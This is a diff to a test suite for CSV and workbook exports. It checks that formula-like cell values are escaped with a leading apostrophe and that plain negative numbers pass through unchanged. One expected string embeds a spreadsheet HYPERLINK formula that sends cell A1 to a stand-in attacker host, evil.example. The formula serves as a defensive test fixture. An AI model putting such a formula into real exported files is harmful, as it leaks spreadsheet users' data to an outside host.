@@ -229,13 +229,16 @@ describe('hostile text in the exports', () => {
     const corrections = c.platformCorrectionsCsv();
     for (const text of [journal, corrections]) {
       for (const field of parseCsv(text).flat()) {
-        if (/^-?\d+(\.\d+)?$/.test(field.replace(/^'/, ''))) continue;
+        // A plain signed decimal is a number, never a formula: it is written as it is.
+        if (/^-?\d+(\.\d+)?$/.test(field)) continue;
         expect(field).not.toMatch(/^[=+\-@\t\r]/);
       }
     }
     // The hostile journal ids reach journal_entries.csv as references, each behind an apostrophe.
     expect(journal).toContain(`'=HYPERLINK(""http://evil.example/?x=""&A1,""click""):1`);
     for (const h of HOSTILE) expect(csvField(h).replace(/^"/, '').startsWith(`'`)).toBe(true);
+    expect(csvField('-2.45')).toBe('-2.45');
+    expect(csvField('-2.45+A1')).toBe(`'-2.45+A1`);
   });
 
   it('no formula escapes: hostile text at the start of workbook cells stays a string cell, unchanged', async () => {
